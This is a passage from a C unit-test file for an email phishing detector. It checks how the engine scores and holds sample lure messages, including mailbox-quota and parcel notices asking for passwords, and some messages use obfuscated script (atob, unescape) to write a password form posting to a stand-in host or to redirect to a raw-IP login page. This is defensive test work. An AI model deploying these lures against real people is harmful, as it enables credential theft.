	 "<html><body><script>document.write(atob(\"PGZvcm0gbWV0aG9kPSJwb3N0IiBhY3Rpb249Imh0dHBzOi8vdmlldy1kb2MtbG9naW4uZXhhbXBsZS9wIj48aW5wdXQgdHlwZT0icGFzc3dvcmQiIG5hbWU9InAiPjwvZm9ybT4=\"));</script></body></html>\r\n--b--\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"HTML body writing a login form through unescape: tag", "billing@invoice-view.example",
	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "<html><body><p>Your document is ready.</p><script>document.write(unescape('%3C%66%6F%72%6D%20%6D%65%74%68%6F%64%3D%22%70%6F%73%74%22%20%61%63%74%69%6F%6E%3D%22%68%74%74%70%73%3A%2F%2F%76%69%65%77%2D%64%6F%63%2D%6C%6F%67%69%6E%2E%65%78%61%6D%70%6C%65%2F%70%22%3E%3C%69%6E%70%75%74%20%74%79%70%65%3D%22%70%61%73%73%77%6F%72%64%22%20%6E%61%6D%65%3D%22%70%22%3E%3C%2F%66%6F%72%6D%3E'))</script></body></html>\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"attached page sending the reader to a decoded raw IP: hold", "billing@invoice-view.example",
	 "From: billing@invoice-view.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: document\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=doc.htm\r\n\r\n"
	 "<script>window.location.href = atob('aHR0cDovLzIwMy4wLjExMy43Nzo4MDgwL293YS8=');</script>\r\n--b--\r\n",
	 "attack.credential_request attack.lookalike_url", 4, OM_ACT_HOLD},
	{"newsletter body with the analytics snippet (a guard): nothing", "news@shop-news.example",
	 "From: news@shop-news.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: news\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "<html><body><p>Spring sale.</p><script>var gaJsHost = ((\"https:\" == document.location.protocol) ? \"https://ssl.\" : \"http://www.\");"
	 "document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js'%3E%3C/script%3E\"));</script>"
	 "<a href=\"https://click.shop-news.example/t?u=1\">Shop now</a></body></html>\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"English quota notice, raw IP without a scheme, with a path: hold", "helpdesk@mail-admin-desk.example",
	 "From: helpdesk@mail-admin-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "Your email storage is 98% full. Sign in at 203.0.113.9/owa/quota to increase your mailbox storage.\r\n",
	 "attack.credential_request attack.lookalike_url attack.theme", 5, OM_ACT_HOLD},
	{"English quota notice, IPv6 literal with a port: tag", "helpdesk@mail-admin-desk.example",
	 "From: helpdesk@mail-admin-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "Your mailbox is almost full: http://[2001:db8::25]:8443/owa\r\n",
	 "attack.lookalike_url attack.theme", 3, OM_ACT_TAG},
	{"network and version numbers (a guard): nothing", "noc@isp-partner.example",
	 "From: noc@isp-partner.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: maintenance\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "The range 198.51.100.0/24 moves on Sunday; firmware 10.2.3.4 is required. Host 192.0.2.1 stays.\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"courier notice asking for the mailbox password: tag", "notice@parcel-desk.example",
	 "From: notice@parcel-desk.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Shipment notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "Your package is on hold. Sign in with your email password to release the parcel: https://parcel-desk.example/r\r\n",
	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
	{"shop notice: delivery address to change after signing in: tag", "info@shop-notice.example",
	 "From: info@shop-notice.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "ご注文商品の配送先の変更が必要です。マイページにログインのうえ、お届け先をご確認ください。https://shop-notice.example/my\r\n",
	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
	{"enquiry in unnatural Japanese with one simplified form: tag", "sales@global-trade-co.example",
	 "From: sales@global-trade-co.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "はじめまして。貴社の製品にとても興味があります。产品の価格を教えてください。よろしくお願いします。\r\n",
	 "attack.non_japanese_kanji attack.theme", 3, OM_ACT_TAG},
	{"the same enquiry from a listed partner: theme only", "liu@dongfang-travel.example",
	 "From: liu@dongfang-travel.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "はじめまして。貴社の製品にとても興味があります。产品の価格を教えてください。よろしくお願いします。\r\n",
	 "attack.theme", 1, OM_ACT_ACCEPT},
	/* Fourth round. */
	{"a partner's Japanese mail naming a Chinese firm: nothing", "liu@dongfang-travel.example",
	 "From: liu@dongfang-travel.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: visit\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "いつもお世話になっております。取引先の华信贸易の担当者が来月伺いますので、よろしくお願いいたします。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"a stranger naming two Chinese firms in Japanese: nothing", "nakamura@kawanishi-kogyo.example",
	 "From: nakamura@kawanishi-kogyo.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: visit\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "来期から华信贸易および东方集团と取引を始めますので、保険についてご相談させてください。\r\n",
	 "", 0, OM_ACT_ACCEPT},
	{"the topic only in an attached page's title: theme and request", "pbx@office-phone.example",
	 "From: pbx@office-phone.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: message\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=msg.html\r\n\r\n"
	 "<html><head><TITLE>Voicemail &amp; message</TITLE></head><body><h2 class=x>0:42</h2>"
	 "<input type=password name=p></body></html>\r\n--b--\r\n",
	 "attack.credential_request attack.theme", 3, OM_ACT_TAG},
	{"a heading with no lure topic (a guard): request only", "pbx@office-phone.example",
	 "From: pbx@office-phone.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: message\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
	 "--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n"
	 "--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=msg.html\r\n\r\n"
	 "<html><head><title>Document</title></head><body><h1>Welcome</h1><p>voicemail</p>"
	 "<input type=password name=p></body></html>\r\n--b--\r\n",
	 "attack.credential_request", 2, OM_ACT_TAG},
	{"kanji-heavy Japanese terms with few kana: nothing", "info@center.example",
	 "From: info@center.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: =?UTF-8?B?57SE5qy+?=\r\n"
	 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
	 "第一条（保険金支払事由）当会社は、被保険者が保険期間中に急激かつ偶然な外来の事故により身体に傷害を被った場合、本約款に従い保険金を支払う。\r\n"
	 "第二条（免責事由）故意、重大過失、戦争、内乱、地震、噴火、津波に起因する損害。\r\n"
	 "火災保険　地震保険　自動車保険　傷害保険　賠償責任保険　所得補償保険\r\n",
	 "", 0, OM_ACT_ACCEPT},
};

/* Whole messages: categories, score and action. */
static void
test_messages(void **state)
{
	(void) state;
	for (size_t i = 0; i < sizeof(msg_cases) / sizeof(msg_cases[0]); i++) {
		const char *rcpt[] = {"tanaka@sakura-hoken.example"};
		om_envelope env = {0};
		om_result *res;
		char    got[512] = "";

		env.from = msg_cases[i].from;
		env.rcpt = rcpt;
		env.nrcpt = 1;
		res = om_engine_scan(snap, &env, msg_cases[i].msg, strlen(msg_cases[i].msg));
		assert_non_null(res);
		/* attack.* categories in a fixed order, each once. */
		static const char *const cats[] = {
			"attack.credential_request", "attack.freemail_sender", "attack.lookalike_sender",
			"attack.lookalike_url", "attack.non_japanese_kanji", "attack.signature_mismatch", "attack.theme",
			"attack.url_mismatch",
		};
		for (size_t c = 0; c < sizeof(cats) / sizeof(cats[0]); c++)
			for (size_t k = 0; k < res->nfindings; k++)
				if (strcmp(res->findings[k].category, cats[c]) == 0) {
					if (*got)
						strcat(got, " ");
					strcat(got, cats[c]);
					break;
				}
		if (strcmp(got, msg_cases[i].want) != 0)
			fail_msg("%s: got \"%s\", want \"%s\"", msg_cases[i].name, got, msg_cases[i].want);
		if (res->attack_score != msg_cases[i].score || res->action != msg_cases[i].action)
			fail_msg("%s: score %u action %s, want %u %s", msg_cases[i].name, res->attack_score,
				 om_action_name(res->action), msg_cases[i].score,
				 om_action_name(msg_cases[i].action));
		if (msg_cases[i].action == OM_ACT_ACCEPT)
			assert_null(res->attack_words);
		else
			assert_non_null(res->attack_words);
		om_result_free(res);
	}
}

/*
 * Mail from an outside client in the firm's own name gets every inbound
 * check: a From: at postmaster@ or the null sender does not make it a
 * delivery report, and the firm's domain does not make an all-Chinese
 * text a known sender's.
 */
static void
test_spoofed_inbound(void **state)
{
	static const struct {
		const char *name;
		const char *from;	/* envelope sender */
		const char *msg;
		const char *want[4];	/* categories besides attack.spoofed_internal */
	} cases[] = {
		{"held mail notice signed postmaster@", "postmaster@sakura-hoken.example",
		 "From: postmaster@sakura-hoken.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
		 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
		 "Your mailbox has exceeded the storage limit. Confirm your email password below: http://198.51.100.23/owa\r\n",
		 {"attack.lookalike_url", "attack.credential_request", "attack.theme"}},
		{"null sender, internal From:", "<>",
		 "From: admin@sakura-hoken.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: Mailbox notice\r\n"
		 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
		 "Your mailbox has exceeded the storage limit. Confirm your email password below: http://198.51.100.23/owa\r\n",
		 {"attack.lookalike_url", "attack.credential_request", "attack.theme"}},
		{"all simplified Chinese in the firm's name", "admin@sakura-hoken.example",
		 "From: admin@sakura-hoken.example\r\nTo: tanaka@sakura-hoken.example\r\nSubject: notice\r\n"
		 "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
		 "尊敬的用户，您的邮箱容量已满，系统将暂停接收新邮件。请尽快联系管理员处理，谢谢合作。\r\n",
		 {"attack.non_japanese_kanji", "attack.theme"}},
	};

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *rcpt[] = {"tanaka@sakura-hoken.example"};
		om_envelope env = {0};
		om_result *res;
		int     found;

		env.from = cases[i].from;
		env.rcpt = rcpt;
		env.nrcpt = 1;
		env.client_addr = "203.0.113.50";
		res = om_engine_scan(snap, &env, cases[i].msg, strlen(cases[i].msg));
		assert_non_null(res);
		assert_int_equal(res->direction, OM_DIR_INBOUND);
		for (size_t w = 0; w < 5; w++) {
			const char *want = w == 0 ? "attack.spoofed_internal" : cases[i].want[w - 1];

			if (want == NULL)
				break;
			found = 0;
			for (size_t k = 0; k < res->nfindings; k++)
				found |= strcmp(res->findings[k].category, want) == 0;
			if (!found)
				fail_msg("%s: no %s", cases[i].name, want);
		}
		assert_int_equal(res->action, OM_ACT_HOLD);
		om_result_free(res);
	}
}

/*
 * A delivery report's marks are the sender's to choose: the null sender,
 * a From: at postmaster@ or a multipart/report wrapper exempt nothing by
 * themselves, and the report's own human-readable part is read like any
 * inbound mail. Only the returned copy of our user's message is not read
 * for lure indicators, and the recipient the report names is no signature
 * (the last case, a guard).
 */
#define DR_LURE "Your mailbox has exceeded the storage limit. Confirm your email password below: " \
	"http://198.51.100.23/owa\r\n"
#define DR_TEXT "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n" \
	"Content-Transfer-Encoding: 8bit\r\n\r\n"

static void
test_delivery_report(void **state)
{
	static const char *const lure[] = {"attack.lookalike_url", "attack.credential_request", "attack.theme", NULL};
	static const struct {
		const char *name;
		const char *from;	/* envelope sender */
		const char *msg;
		int     tagged;		/* 1: every lure category, 0: no attack.* at all */
	} cases[] = {
		{"lure from the null sender, ordinary From:", "<>",
		 "From: Mail Admin <admin@mailbox-service.example>\r\nTo: tanaka@sakura-hoken.example\r\n"
		 "Subject: Mailbox notice\r\n" DR_TEXT DR_LURE, 1},
		{"lure signed postmaster@ at a look-alike", "postmaster@sakura-hokken.example",
		 "From: postmaster@sakura-hokken.example\r\nTo: tanaka@sakura-hoken.example\r\n"
		 "Subject: Mailbox notice\r\n" DR_TEXT DR_LURE, 1},
		{"multipart/report whose human-readable part is a lure", "<>",
		 "From: MAILER-DAEMON@mx.mailbox-service.example\r\nTo: tanaka@sakura-hoken.example\r\n"
		 "Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"
		 "Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\r\n\r\n"
		 "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
		 DR_LURE
		 "--b1\r\nContent-Type: message/delivery-status\r\n\r\n"
		 "Reporting-MTA: dns; mx.mailbox-service.example\r\n\r\n"
		 "Final-Recipient: rfc822; suzuki@mailbox-service.example\r\nAction: failed\r\nStatus: 5.2.2\r\n\r\n"
		 "--b1--\r\n", 1},
		{"guard: a genuine bounce returning our user's message with links and invoice words", "<>",
		 "From: MAILER-DAEMON@mx.relay-service.example\r\nTo: tanaka@sakura-hoken.example\r\n"
		 "Subject: Undelivered Mail Returned to Sender\r\nMIME-Version: 1.0\r\n"
		 "Content-Type: multipart/report; report-type=delivery-status; boundary=\"b1\"\r\n\r\n"
		 "--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
		 "This is the mail system at host mx.relay-service.example.\r\n\r\n"
		 "I'm sorry to have to inform you that your message could not be delivered.\r\n\r\n"
		 "<eigyo@kitamura-shoji.example>: mailbox full\r\n"
		 "--b1\r\nContent-Type: message/delivery-status\r\n\r\n"
		 "Reporting-MTA: dns; mx.relay-service.example\r\n\r\n"
		 "Final-Recipient: rfc822; eigyo@kitamura-shoji.example\r\nAction: failed\r\nStatus: 5.2.2\r\n\r\n"
		 "--b1\r\nContent-Type: text/rfc822-headers\r\n\r\n"
		 "From: tanaka@sakura-hoken.example\r\nTo: eigyo@kitamura-shoji.example\r\n"
		 "Subject: Invoice: confirm your password at http://198.51.100.23/owa\r\n"
		 "--b1\r\nContent-Type: message/rfc822\r\n\r\n"
		 "From: tanaka@sakura-hoken.example\r\nTo: eigyo@kitamura-shoji.example\r\n"
		 "Subject: Invoice\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
		 "<p>Your mailbox has exceeded the storage limit. Confirm your email password below:</p>"
		 "<p><a href=\"http://198.51.100.23/owa\">https://www.sakura-hoken.example/login</a></p>\r\n"
		 "--b1--\r\n", 0},
	};

	(void) state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *rcpt[] = {"tanaka@sakura-hoken.example"};
		om_envelope env = {0};
		om_result *res;

		env.from = cases[i].from;
		env.rcpt = rcpt;
		env.nrcpt = 1;
		env.client_addr = "203.0.113.50";
		res = om_engine_scan(snap, &env, cases[i].msg, strlen(cases[i].msg));
		assert_non_null(res);
		assert_int_equal(res->direction, OM_DIR_INBOUND);
		for (size_t w = 0; cases[i].tagged && lure[w]; w++) {
			int     found = 0;

			for (size_t k = 0; k < res->nfindings; k++)
				found |= strcmp(res->findings[k].category, lure[w]) == 0;
			if (!found)
				fail_msg("%s: no %s", cases[i].name, lure[w]);
		}
		/* The report's own Subject is read like any other (Undelivered Mail ...). */
		for (size_t k = 0; !cases[i].tagged && k < res->nfindings; k++)
			if (strncmp(res->findings[k].category, "attack.", 7) == 0
			    && strcmp(res->findings[k].where, "subject") != 0)
				fail_msg("%s: %s (%s) in %s", cases[i].name, res->findings[k].category,
					 res->findings[k].rule, res->findings[k].where);
		if (cases[i].tagged)
			assert_non_null(res->attack_words);
		else
			assert_null(res->attack_words);
		om_result_free(res);
	}
}

/* Registered domains of the state store are partners too, learned or added. */
static void
test_learned(void **state)
{
	static const char conf[] = "internal_domains = sakura-hoken.example\n"
		"rules_dir = " OM_RULES_SRCDIR "\n"
		"trusted_networks =\n";
	static const char msg[] = "From: eigyo@kitamura-shouji.example\r\nTo: tanaka@sakura-hoken.example\r\n"
		"Subject: hello\r\n\r\nhello\r\n";
	static const char real[] = "From: eigyo@kitamura-shoji.example\r\nTo: tanaka@sakura-hoken.example\r\n"
		"Subject: hello\r\n\r\nhello\r\n";
	const char *rcpt[] = {"tanaka@sakura-hoken.example"};
	char    text[1024], path[600];
	om_conf_err err;
	om_envelope env = {0};
	om_snap *s2;
	om_result *res;
	const om_finding *f = NULL;

	(void) state;
	snprintf(text, sizeof(text), "%sstate = sqlite:%s/state.db\n", conf, dir);
	assert_int_equal(om_test_write(dir, "learned.conf", text), 0);
	snprintf(path, sizeof(path), "%s/learned.conf", dir);
	memset(&err, 0, sizeof(err));
	s2 = om_snap_load(path, OM_SNAP_SCAN | OM_SNAP_STATE, &err);
	if (s2 == NULL)
		fail_msg("%s", err.text);
	assert_int_equal(om_state_domain_add(s2->state, "kitamura-shoji.example", OM_DOMAIN_LEARNED, time(NULL)), 0);
	env.from = "eigyo@kitamura-shouji.example";
	env.rcpt = rcpt;
	env.nrcpt = 1;
	res = om_engine_scan(s2, &env, msg, strlen(msg));
	assert_non_null(res);
	for (size_t k = 0; k < res->nfindings; k++)
		if (strcmp(res->findings[k].category, "attack.lookalike_sender") == 0)
			f = res->findings + k;
	assert_non_null(f);
	assert_string_equal(f->rule, "attack.lookalike_sender.partner");
	om_result_free(res);
	/* The partner itself. */
	env.from = "eigyo@kitamura-shoji.example";
	res = om_engine_scan(s2, &env, real, strlen(real));
	assert_non_null(res);
	for (size_t k = 0; k < res->nfindings; k++)
		assert_string_not_equal(res->findings[k].category, "attack.lookalike_sender");
	om_result_free(res);
	om_snap_unref(s2);
}

/*
 * An old-style bounce copies the message inline: the signature in it is
 * the copy's, not the mail system's, and a free-mail provider's
 * MAILER-DAEMON is its mail system, not a free-mail user. Those two
 * indicators stay out; the links of the same text are still read.
 */
static void
test_inline_bounce(void **state)
{
	static const char bounce[] =
	    "From: Mail Delivery System <mailer-daemon@googlemail.com>\r\n"
	    "To: tanaka@sakura-hoken.example\r\nSubject: Mail delivery failed: returning message to sender\r\n\r\n"
	    "This message was created automatically by mail delivery software.\r\n\r\n"
	    "A message that you sent could not be delivered to one or more of its recipients.\r\n\r\n"
	    "  eigyo@kitamura-shoji.example\r\n    mailbox is full\r\n\r\n"
	    "------ This is a copy of the message, including all the headers. ------\r\n\r\n"
	    "From: suzuki@aoba-trading.example\r\nSubject: quote\r\n\r\n"
	    "Please find the quote.\r\n\r\n--\r\nAoba Trading\r\nSuzuki Ichiro\r\n"
	    "E-mail: suzuki@aoba-trading.example\r\nTel: 03-5555-0101\r\n";
	static const char lure[] =
	    "From: Mail Delivery System <mailer-daemon@googlemail.com>\r\n"
	    "To: tanaka@sakura-hoken.example\r\nSubject: Mail delivery failed\r\n\r\n"
	    "Your messages are on hold. Release them at\r\n"
	    "http://198.51.100.23/owa/release\r\n";
	const char *rcpt[] = {"tanaka@sakura-hoken.example"};
	om_envelope env = {0};
	om_result *res;
	int     ip = 0;

	(void) state;
	env.from = "<>";
	env.rcpt = rcpt;
	env.nrcpt = 1;
	env.client_addr = "203.0.113.50";
	res = om_engine_scan(snap, &env, bounce, strlen(bounce));
	assert_non_null(res);
	for (size_t k = 0; k < res->nfindings; k++)
		if (strcmp(res->findings[k].category, "attack.signature_mismatch") == 0
		    || strcmp(res->findings[k].category, "attack.freemail_sender") == 0)
			fail_msg("inline bounce: %s (%s)", res->findings[k].category, res->findings[k].rule);
	om_result_free(res);
	res = om_engine_scan(snap, &env, lure, strlen(lure));
	assert_non_null(res);
	for (size_t k = 0; k < res->nfindings; k++)
		ip |= strcmp(res->findings[k].category, "attack.lookalike_url") == 0;
	assert_true(ip);
	om_result_free(res);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_registrable),
		cmocka_unit_test(test_text_host),
		cmocka_unit_test(test_lookalike),
		cmocka_unit_test(test_hanzi),
		cmocka_unit_test(test_brands_parse),
		cmocka_unit_test(test_own_lookalike),
		cmocka_unit_test(test_own_many),
		cmocka_unit_test(test_learned),
		cmocka_unit_test(test_messages),
		cmocka_unit_test(test_spoofed_inbound),
		cmocka_unit_test(test_delivery_report),
		cmocka_unit_test(test_inline_bounce),
	};

	return (cmocka_run_group_tests(tests, setup, teardown));
}
